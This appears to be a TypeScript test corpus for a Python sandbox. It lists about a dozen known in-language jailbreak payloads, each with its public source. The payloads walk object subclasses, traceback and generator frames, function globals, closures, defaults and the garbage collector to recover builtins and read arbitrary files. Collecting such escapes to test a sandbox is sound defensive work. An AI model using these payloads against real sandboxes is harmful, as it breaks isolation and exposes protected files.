/** Holes of sandboxes within the language: frames, closures and the graph of objects. */
import type { Attack } from './attack.ts';
import { jailbreak, OPEN_BY_BUILTINS } from './jailbreak.ts';

export const LANGUAGE: readonly Attack[] = [
  ...jailbreak({
    title: 'a walk over object.__subclasses__ finds a loader that reads files',
    known: "tav's safelite.py challenge (2009); pysandbox hid __subclasses__ for it",
    jailed: `
kinds = ().__class__.__base__.__subclasses__()
found = [kind for kind in kinds if kind.__name__ == "FileLoader"][0]("x", path).get_data(path)
`,
  }),
  ...jailbreak({
    title: 'a walk over __mro__ finds a class whose __init__ has builtins in its globals',
    known: 'write-ups of template injections and PyJails: os._wrap_close',
    jailed: `
kinds = "".__class__.__mro__[-1].__subclasses__()
kind = [kind for kind in kinds if kind.__name__ == "_wrap_close"][0]
builtins = kind.__init__.__globals__["__builtins__"]${OPEN_BY_BUILTINS}`,
  }),
  ...jailbreak({
    title: 'warnings.catch_warnings leads to the modules that its own module imports',
    known: 'PyJail write-ups: catch_warnings()._module (CSAW 2014 and on)',
    given: 'catch_warnings=__import__("warnings").catch_warnings',
    jailed: `
found = catch_warnings()._module.sys.modules["io"].open(path).read()
`,
  }),
  ...jailbreak({
    title: "a traceback's frame leads to the frames of whoever built the sandbox",
    known: 'safelite.py broken by tracebacks (python-dev, February 2009); pysandbox hid f_locals',
    given: 'Division=ZeroDivisionError',
    jailed: `
try:
    1 / 0
except Division as error:
    builtins = error.__traceback__.tb_frame.f_back.f_builtins${OPEN_BY_BUILTINS}`,
  }),
  ...jailbreak({
    title: 'a generator leads by gi_frame to the frame that runs it',
    known: 'safelite.py challenge: gi_frame; RestrictedPython, CVE-2023-37271',
    jailed: `
def walk():
    frame = running.gi_frame
    while not frame.f_builtins:
        frame = frame.f_back
    yield frame.f_builtins
running = walk()
builtins = [item for item in running][0]${OPEN_BY_BUILTINS}`,
  }),
  ...jailbreak({
    title: 'a coroutine that is thrown at shows the frames above it',
    known: 'PyJail write-ups: cr_frame, ag_frame and coroutine.throw',
    given: 'Stop=KeyError',
    jailed: `
async def never():
    pass
coroutine = never()
try:
    coroutine.throw(Stop)
except Stop as error:
    builtins = error.__traceback__.tb_frame.f_back.f_builtins${OPEN_BY_BUILTINS}`,
  }),
  ...jailbreak({
    title: 'the globals of a function that was handed in hold all of its module',
    known: "pysandbox's test_attributes: func_globals",
    given: 'helper=works',
    jailed: `
builtins = helper.__globals__["__builtins__"]${OPEN_BY_BUILTINS}`,
  }),
  ...jailbreak({
    title: 'the closure of a guarded open holds the true one',
    known: "pysandbox's test_attributes: func_closure of its safe_open",
    given: 'guarded=(lambda real: lambda name: real("/dev/null"))(open)',
    jailed: `
found = guarded.__closure__[0].cell_contents(path).read()
`,
  }),
  ...jailbreak({
    title: 'the defaults of a function hold what it must not give away',
    known: 'pysandbox 1.5: access to func_defaults blocked',
    given: 'guarded=lambda name, real=open: None',
    jailed: `
found = guarded.__defaults__[0](path).read()
`,
  }),
  ...jailbreak({
    title: 'the module behind a builtin function is builtins itself',
    known: 'PyJail write-ups: print.__self__',
    given: 'harmless=len',
    jailed: `
found = harmless.__self__.open(path).read()
`,
  }),
  ...jailbreak({
    title: 'the reduction of any object is a function of copyreg, with its globals',
    known: 'PyJail write-ups: __reduce_ex__',
    // Else it would be imported now, by builtins that are not there.
    given: 'imported=__import__("copyreg")',
    jailed: `
builtins = ().__reduce_ex__(2)[0].__globals__["__builtins__"]${OPEN_BY_BUILTINS}`,
  }),
  ...jailbreak({
    title: 'an exception of the code that called the jail carries its frames in',
    known: 'PyPy and safelite.py: exceptions that cross the border',
    given: 'caller=lambda value: value == 1, kind=type, Any=Exception',
    jailed: `
Trap = kind("Trap", (), {"__eq__": lambda self, other: 1 / 0})
try:
    caller(Trap())
except Any as error:
    builtins = error.__traceback__.tb_next.tb_frame.f_globals["__builtins__"]${OPEN_BY_BUILTINS}`,
  }),
  ...jailbreak({
    title: 'the collector of garbage knows every object, hidden ones too',
    known: 'gc.get_objects, in the list of what pysandbox does not allow',
    given: 'collector=__import__("gc")',
    jailed: `
spaces = [item for item in collector.get_objects() if item.__class__ is {}.__class__]
found = [space for space in spaces if "open" in space and "abs" in space][0]["open"](path).read()
`,
  }),
  ...jailbreak({
    title: 'an importer of builtin modules is a class like any other, and has posix',
    known: 'PyJail write-ups: BuiltinImporter.load_module',
    jailed: `
kinds = ().__class__.__base__.__subclasses__()
importer = [kind for kind in kinds if kind.__name__ == "BuiltinImporter"][0]
posix = importer.load_module("posix")
found = posix.read(posix.open(path, 0), 1000)
`,
  }),
];
